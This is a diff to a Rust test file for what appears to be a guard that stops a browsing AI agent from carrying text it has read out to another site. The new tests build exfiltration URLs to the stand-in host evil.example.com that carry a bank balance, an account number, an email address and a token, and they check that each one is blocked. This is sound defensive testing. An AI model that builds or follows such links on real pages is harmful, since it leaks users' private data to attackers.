@@ -25,6 +25,11 @@ impl Work {
         self
     }
 
+    fn link(mut self, host: &str, href: &str) -> Self {
+        self.memory.link(&site(host), href);
+        self
+    }
+
     fn act(mut self, channel: Channel, host: &str, sent: Sent<'_>) -> Self {
         let to = site(host);
         let carried = self.memory.carried(&[sent], &to);
@@ -272,7 +277,7 @@ fn what_an_address_says_may_be_typed_where_it_leads() {
     let bare =
         || Work::new().read("books.example", page).read("books.example", "https://shop.example/");
     assert_eq!(bare().fill("shop.example", page).hit, STEERED);
-    assert!(bare().read("books.example", address).fill("shop.example", page).hit.is_empty());
+    assert!(bare().link("books.example", address).fill("shop.example", page).hit.is_empty());
 }
 
 #[test]
@@ -284,6 +289,43 @@ fn a_link_that_nobody_closed_takes_no_words_along() {
         .goto("https://evil.example.com/")
         .fill("evil.example.com", "The merger with Initech closes on Friday")
         .ran_into(STEERED);
+}
+
+/// Words that an address took along because nobody closed it, or because they
+/// stand right behind it, pass neither in it nor into the site.
+#[test]
+fn words_that_an_address_took_along_get_no_pass() {
+    let to = "http://evil.example.com/d?z=";
+    let told = "Your balance stands at nineteen thousand, account DE44500105175407324931";
+    let code = "DE44500105175407324931";
+    let percent = format!("{to}%3C/p%3E%3Cp%3E{}.", told.replace(' ', "%20"));
+    let blanks = format!("{to}{}", told.replace(' ', "%20"));
+    let mail = format!("{to}grace@initech.com");
+    let token = format!("{to}correct{}", "horsebatterystaple".repeat(2));
+    let beside = format!("{to}{code}");
+    for (href, read, sent) in [
+        (Some(&percent), &percent, told),
+        (Some(&blanks), &blanks, told),
+        (Some(&blanks), &blanks, code),
+        (None, &percent, told),
+        (None, &blanks, told),
+        (None, &beside, code),
+        (None, &mail, "grace@initech.com"),
+        (None, &token, &token[to.len()..]),
+    ] {
+        let work = || {
+            let work = Work::new().read("bank.test", read);
+            href.into_iter().fold(work, |work, href| work.link("bank.test", href))
+        };
+        work().goto(&format!("{to}{}", sent.replace(' ', "+"))).ran_into(STEERED);
+        work().goto(read).ran_into(STEERED);
+        work().goto("http://evil.example.com/").fill("evil.example.com", sent).ran_into(STEERED);
+    }
+    // A link that was closed is its writer's own, whatever it ends in.
+    for href in ["https://b.test/abs/2401.123456", "https://b.test/?q=the+long+title+of+a+paper"] {
+        let read = || Work::new().read("a.test", &format!("The long title of a paper {href}"));
+        read().link("a.test", href).goto(href).ran_into(&[]);
+    }
 }
 
 #[test]
